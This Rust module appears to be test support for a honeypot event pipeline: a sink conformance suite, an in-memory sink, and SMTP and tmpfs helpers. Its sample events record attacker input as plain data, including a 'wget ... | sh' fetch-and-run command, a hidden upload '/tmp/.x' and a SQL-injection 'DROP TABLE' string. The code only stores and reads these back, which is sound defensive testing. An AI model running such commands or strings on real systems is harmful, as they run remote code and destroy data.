//! A conformance suite for [`Sink`] implementations, sample events of every kind, and
//! [`MemorySink`], which keeps what it is given for a test to look at.
//!
//! Every backend's tests call [`sink_conformance`] so that all sinks keep the same
//! promises: what is written reads back field by field (hostile strings and enrichment
//! included), idempotency on the event id when the sink claims it, concurrent writers,
//! and a report that covers every event.

use std::future::Future;
use std::net::IpAddr;
use std::sync::{Arc, Mutex, PoisonError};

use async_trait::async_trait;

use crate::event::{
    Asn, AuthMethod, Enrichment, Event, EventId, EventKind, Geo, Network, Protocol, Reputation,
    Timestamp,
};
use crate::sink::{Sink, SinkError, WriteReport};

/// Whether the external program `name` (a real client a test drives: `ssh`, `hydra`...)
/// is installed. Without it a test should skip, and this says so loudly; under
/// `HPTI_REQUIRE_SERVICES=1` (CI) a missing program fails the test instead.
///
/// # Panics
///
/// When `name` is missing and `HPTI_REQUIRE_SERVICES=1`.
pub fn require_tool(name: &str) -> bool {
    let found = std::process::Command::new("sh")
        .args(["-c", &format!("command -v {name}")])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    if !found {
        if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
            panic!("{name} is required (HPTI_REQUIRE_SERVICES=1): apt-get install {name}");
        }
        eprintln!("\n*** SKIPPED: {name} is not installed ***\n");
    }
    found
}

/// Whether Python 3 can import `module` (a real tool a test runs: PyMISP, the OASIS
/// validators, a TAXII client), installed from PyPI as `package`. Skips loudly without
/// it, and fails under `HPTI_REQUIRE_SERVICES=1`, as [`require_tool`] does.
///
/// # Panics
///
/// When the module is missing and `HPTI_REQUIRE_SERVICES=1`.
pub fn require_python_module(module: &str, package: &str) -> bool {
    let found = std::process::Command::new("python3")
        .args(["-c", &format!("import {module}")])
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
            panic!(
                "{package} is required (HPTI_REQUIRE_SERVICES=1): python3 -m pip install {package}"
            );
        }
        eprintln!(
            "\n*** SKIPPED: {package} is not installed (python3 -m pip install {package}) ***\n"
        );
    }
    found
}

/// A real SMTP server for a test: PyPI's aiosmtpd on a free loopback port, delivering
/// into a maildir the test reads back. Stopped when dropped.
#[derive(Debug)]
pub struct SmtpServer {
    child: std::process::Child,
    /// Its port on 127.0.0.1.
    pub port: u16,
    /// Where it delivers (`mailbox.Maildir` in Python reads it).
    pub maildir: std::path::PathBuf,
}

impl SmtpServer {
    /// Starts one delivering under `dir`; `None` (said loudly) without aiosmtpd.
    ///
    /// # Panics
    ///
    /// When aiosmtpd is missing and `HPTI_REQUIRE_SERVICES=1`, or does not start.
    pub fn start(dir: &std::path::Path) -> Option<Self> {
        use std::process::{Command, Stdio};
        let present = Command::new("python3")
            .args(["-c", "import aiosmtpd"])
            .status()
            .is_ok_and(|s| s.success());
        if !present {
            if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
                panic!("aiosmtpd is required (HPTI_REQUIRE_SERVICES=1): pip install aiosmtpd");
            }
            eprintln!("\n*** SKIPPED: aiosmtpd is not installed (pip install aiosmtpd) ***\n");
            return None;
        }
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .map(|a| a.port())
            .unwrap_or_else(|e| panic!("no free port: {e}"));
        let maildir = dir.join("maildir");
        let child = Command::new("python3")
            .args(["-m", "aiosmtpd", "-n", "-c", "aiosmtpd.handlers.Mailbox"])
            .arg(&maildir)
            .args(["-l", &format!("127.0.0.1:{port}")])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start aiosmtpd: {e}"));
        // Owned first, so that it is killed and reaped on every path.
        let server = Self {
            child,
            port,
            maildir,
        };
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return Some(server);
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        panic!("aiosmtpd did not start");
    }
}

impl Drop for SmtpServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A size-limited tmpfs mounted for a test's lifetime: the small disk that full-disk
/// tests fill. Unmounted when dropped.
#[derive(Debug)]
pub struct Tmpfs(std::path::PathBuf);

impl Tmpfs {
    /// Mounts a tmpfs of `size` (`8m`) at `at`. Mounting needs root: without it the test
    /// should skip (`None`), and this says so loudly; under `HPTI_REQUIRE_SERVICES=1`
    /// (CI, which runs as root) it fails the test instead.
    ///
    /// # Panics
    ///
    /// When the mount fails and `HPTI_REQUIRE_SERVICES=1`, or `at` cannot be created.
    pub fn mount(at: &std::path::Path, size: &str) -> Option<Self> {
        if let Err(err) = std::fs::create_dir_all(at) {
            panic!("cannot create {}: {err}", at.display());
        }
        let mounted = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(at)
            .status()
            .is_ok_and(|s| s.success());
        if !mounted {
            if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
                panic!("mounting a tmpfs is required (HPTI_REQUIRE_SERVICES=1): run as root");
            }
            eprintln!("\n*** SKIPPED: mounting a tmpfs needs root ***\n");
        }
        mounted.then(|| Self(at.to_owned()))
    }

    /// Where it is mounted.
    pub fn path(&self) -> &std::path::Path {
        &self.0
    }

    /// Gives the disk more room (space coming back), keeping what is on it.
    ///
    /// # Panics
    ///
    /// When the remount fails.
    pub fn grow(&self, size: &str) {
        let grown = std::process::Command::new("mount")
            .args(["-o", &format!("remount,size={size}")])
            .arg(&self.0)
            .status()
            .is_ok_and(|s| s.success());
        assert!(
            grown,
            "cannot remount {} with size {size}",
            self.0.display()
        );
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.0)
            .status();
    }
}

/// A sink that keeps every event written to it in memory, for tests of sources and
/// sensors. Clones share the events.
#[derive(Debug, Default, Clone)]
pub struct MemorySink {
    events: Arc<Mutex<Vec<Event>>>,
}

impl MemorySink {
    /// An empty sink.
    pub fn new() -> Self {
        Self::default()
    }

    /// The events written so far, batch by batch in the order they were written.
    pub fn events(&self) -> Vec<Event> {
        self.events
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    /// The events written so far, ordered by event time: a pipeline may write batches
    /// concurrently, so the written order is not the emitted order.
    pub fn events_by_time(&self) -> Vec<Event> {
        let mut events = self.events();
        events.sort_by_key(|e| e.time);
        events
    }
}

#[async_trait]
impl Sink for MemorySink {
    fn name(&self) -> &str {
        "memory"
    }

    async fn write(&self, events: &[&Event]) -> Result<WriteReport, SinkError> {
        self.events
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .extend(events.iter().map(|e| (*e).clone()));
        Ok(WriteReport::delivered())
    }
}

/// A started pipeline whose one sink (`main`) is a fresh [`MemorySink`], dead letters in
/// `dir/dlq.jsonl`, batches lingering 5 ms: what a sensor's or source's test runs its
/// component in.
///
/// # Panics
/// When the pipeline cannot start (a test helper: the test fails).
#[allow(clippy::expect_used)]
pub fn collecting_pipeline(dir: &std::path::Path) -> (crate::pipeline::Pipeline, MemorySink) {
    use crate::pipeline::{Pipeline, PipelineConfig};
    let events = MemorySink::new();
    let mut config = PipelineConfig::with_dead_letter_path(dir.join("dlq.jsonl"));
    config.batch.linger = std::time::Duration::from_millis(5);
    let pipeline = Pipeline::builder(config)
        .sink(
            crate::component::ComponentId::new("main").expect("a valid id"),
            Arc::new(events.clone()),
        )
        .start()
        .expect("the pipeline starts");
    (pipeline, events)
}

/// One event of every kind, with the fields a real sensor would fill, at `base` onwards.
pub fn sample_events(base: Timestamp) -> Vec<Event> {
    let ip: IpAddr = "203.0.113.50"
        .parse()
        .unwrap_or(IpAddr::from([203, 0, 113, 50]));
    let kinds = vec![
        EventKind::SessionStarted,
        EventKind::ClientVersion {
            version: "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3".into(),
        },
        EventKind::ClientFingerprint {
            method: "hassh".into(),
            fingerprint: "ec7378c1a92f5a8dde7e8b7a1ddf33d1".into(),
            algorithms: Some("curve25519-sha256;aes128-ctr;hmac-sha2-256;none".into()),
        },
        EventKind::LoginAttempt {
            username: "root".into(),
            password: Some("admin".into()),
            key_type: None,
            key_fingerprint: None,
            method: AuthMethod::Password,
            success: false,
        },
        EventKind::LoginAttempt {
            username: "root".into(),
            password: None,
            key_type: Some("ssh-ed25519".into()),
            key_fingerprint: Some("SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU".into()),
            method: AuthMethod::Publickey,
            success: true,
        },
        EventKind::CommandInput {
            command: "cd /tmp; wget http://198.51.100.9/x.sh -O- | sh".into(),
        },
        EventKind::FileDownload {
            url: "http://198.51.100.9/x.sh".into(),
            sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
            size: Some(4),
            error: None,
        },
        EventKind::FileUpload {
            filename: "/tmp/.x".into(),
            sha256: Some("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae".into()),
            size: Some(3),
        },
        EventKind::HttpRequest {
            method: "POST".into(),
            uri: "/cgi-bin/luci/;stok=/locale?form=country".into(),
            host: Some("203.0.113.1".into()),
            user_agent: Some("Mozilla/5.0".into()),
            status: Some(404),
            labels: Vec::new(),
            detail: None,
        },
        EventKind::PortForward {
            host: "198.51.100.25".into(),
            port: 25,
            accepted: false,
        },
        EventKind::Unknown {
            original_type: "cowrie.client.size".into(),
            fields: serde_json::json!({"width": 80, "height": 24})
                .as_object()
                .cloned()
                .unwrap_or_default(),
        },
        EventKind::SessionClosed {
            duration_ms: 1234,
            recording: Some("recordings/s1.cast".into()),
        },
    ];
    kinds
        .into_iter()
        .enumerate()
        .map(|(i, kind)| {
            Event::new("conformance", Protocol::Ssh, ip, kind)
                .with_session("s1")
                .with_source_port(40000)
                .with_destination(IpAddr::from([192, 0, 2, 1]), 22)
                .with_time(base.saturating_add_micros(i as i64 * 1000))
        })
        .collect()
}

/// Events whose strings a careless sink would mangle: quotes, NUL, emoji, SQL, long text.
pub fn hostile_events(base: Timestamp) -> Vec<Event> {
    let ip: IpAddr = IpAddr::from([0x2001, 0xdb8, 0, 0, 0, 0, 0, 7]);
    [
        "'; DROP TABLE events; --",
        "quote\" and \\ backslash",
        "nul\0byte",
        "emoji 🐉 and ünïcödé",
        &"x".repeat(60_000),
        "",
    ]
    .iter()
    .enumerate()
    .map(|(i, text)| {
        Event::new(
            "conformance",
            Protocol::Telnet,
            ip,
            EventKind::CommandInput {
                command: (*text).to_owned(),
            },
        )
        .with_time(base.saturating_add_micros(i as i64))
    })
    .collect()
}

/// An event carrying every kind of enrichment, for read-back comparisons.
pub fn enriched_event(base: Timestamp) -> Event {
    let mut event = Event::new(
        "conformance",
        Protocol::Ssh,
        IpAddr::from([198, 51, 100, 77]),
        EventKind::LoginAttempt {
            username: "admin".into(),
            password: Some("1234".into()),
            key_type: None,
            key_fingerprint: None,
            method: AuthMethod::KeyboardInteractive,
            success: false,
        },
    )
    .with_session("s-enriched")
    .with_time(base);
    event.enrichment = Enrichment {
        geo: Some(Geo {
            country_code: Some("NL".into()),
            country: Some("Netherlands".into()),
            city: Some("Amsterdam".into()),
            latitude: Some(52.374),
            longitude: Some(4.8897),
        }),
        asn: Some(Asn {
            number: 64500,
            organization: Some("Example \"Hosting\" B.V.".into()),
        }),
        network: Some(Network {
            source: "rdap".into(),
            handle: Some("NET-198-51-100-0-1".into()),
            name: Some("EXAMPLE-NET".into()),
            cidr: vec!["198.51.100.0/24".into()],
            organization: Some("Example Org".into()),
            abuse_email: Some("abuse@example.net".into()),
            country: Some("NL".into()),
        }),
        reputation: vec![Reputation {
            source: "abuseipdb".into(),
            score: Some(100),
            malicious: None,
            total: None,
            details: [("totalReports".to_owned(), serde_json::json!(42))]
                .into_iter()
                .collect(),
        }],
        tags: vec!["tor".into(), "known-scanner".into()],
        failed: vec!["virustotal".into()],
        file: None,
    };
    event
}

/// Runs the sink conformance suite.
///
/// `count_stored` returns how many events the sink's backing store holds (the suite
/// starts from an empty store); `read_back` returns the stored event with an id, as the
/// store gives it back (`None` if absent). Durable sinks must give back exactly what was
/// written, field by field.
///
/// # Panics
/// On the first broken promise, with a message naming it (this is a test helper).
pub async fn sink_conformance<S, C, CF, R, RF>(sink: &S, count_stored: C, read_back: R)
where
    S: Sink + ?Sized,
    C: Fn() -> CF,
    CF: Future<Output = u64>,
    R: Fn(EventId) -> RF,
    RF: Future<Output = Option<Event>>,
{
    let base = Timestamp::now().saturating_add_micros(-60_000_000);
    let idempotent = sink.capabilities().idempotent;
    assert_eq!(count_stored().await, 0, "the suite needs an empty store");

    let report = sink.write(&[]).await;
    assert!(report.is_ok(), "an empty batch must succeed: {report:?}");

    let samples = sample_events(base);
    let refs: Vec<&Event> = samples.iter().collect();
    let report = sink.write(&refs).await;
    assert!(
        matches!(&report, Ok(r) if r.rejected.is_empty() && r.retry.is_empty()),
        "every sample kind must be accepted: {report:?}"
    );
    assert_eq!(
        count_stored().await,
        samples.len() as u64,
        "every sample must be stored"
    );
    for event in &samples {
        let stored = read_back(event.id).await;
        assert_eq!(
            stored.as_ref(),
            Some(event),
            "a {} event must read back as written",
            event.kind.name()
        );
    }
    assert!(
        read_back(EventId::new()).await.is_none(),
        "an unknown id must read back as absent"
    );

    let mut expected = samples.len() as u64;
    if idempotent {
        let report = sink.write(&refs).await;
        assert!(report.is_ok(), "re-delivery must succeed: {report:?}");
        assert_eq!(
            count_stored().await,
            expected,
            "an idempotent sink must not store a re-delivered event twice"
        );
    }

    let hostile = hostile_events(base);
    let enriched = enriched_event(base);
    let mut mixed: Vec<&Event> = hostile.iter().collect();
    mixed.push(&enriched);
    if idempotent {
        mixed.extend(refs.iter().take(3));
    }
    let report = sink.write(&mixed).await;
    assert!(
        matches!(&report, Ok(r) if r.rejected.is_empty() && r.retry.is_empty()),
        "hostile strings and enrichment must be stored as they are: {report:?}"
    );
    expected += hostile.len() as u64 + 1;
    assert_eq!(
        count_stored().await,
        expected,
        "a batch mixing new and already stored events stores only the new ones"
    );
    for event in hostile.iter().chain([&enriched]) {
        assert_eq!(
            read_back(event.id).await.as_ref(),
            Some(event),
            "hostile strings and enrichment must read back byte for byte"
        );
    }

    let large: Vec<Event> = (0..2500)
        .map(|i| {
            Event::new(
                "conformance",
                Protocol::Ssh,
                IpAddr::from([198, 51, 100, (i % 250) as u8 + 1]),
                EventKind::CommandInput {
                    command: format!("echo {i}"),
                },
            )
            .with_time(base.saturating_add_micros(i))
        })
        .collect();
    let refs: Vec<&Event> = large.iter().collect();
    let report = sink.write(&refs).await;
    assert!(report.is_ok(), "a large batch must succeed: {report:?}");
    expected += large.len() as u64;
    assert_eq!(
        count_stored().await,
        expected,
        "a large batch must be stored whole"
    );

    // Eight writers at once, each with its own events; an idempotent sink also gets
    // every batch twice, concurrently.
    let writers: Vec<Vec<Event>> = (0..8u8)
        .map(|w| {
            (0..200u16)
                .map(|i| {
                    Event::new(
                        "conformance",
                        Protocol::Telnet,
                        IpAddr::from([192, 0, 2, w + 1]),
                        EventKind::CommandInput {
                            command: format!("writer {w} line {i}"),
                        },
                    )
                    .with_session(format!("w{w}"))
                    .with_time(base.saturating_add_micros(i64::from(i)))
                })
                .collect()
        })
        .collect();
    let batches: Vec<Vec<&Event>> = writers.iter().map(|w| w.iter().collect()).collect();
    let copies = if idempotent { 2 } else { 1 };
    let writes = batches
        .iter()
        .flat_map(|batch| std::iter::repeat_n(batch, copies))
        .map(|batch| sink.write(batch));
    for report in futures::future::join_all(writes).await {
        assert!(
            matches!(&report, Ok(r) if r.rejected.is_empty() && r.retry.is_empty()),
            "concurrent writes must all succeed: {report:?}"
        );
    }
    expected += 8 * 200;
    assert_eq!(
        count_stored().await,
        expected,
        "concurrent writers must lose nothing (and duplicate nothing)"
    );
    for writer in &writers {
        for event in [&writer[0], &writer[199]] {
            assert_eq!(read_back(event.id).await.as_ref(), Some(event));
        }
    }
    assert!(sink.close().await.is_ok(), "close must succeed");
}
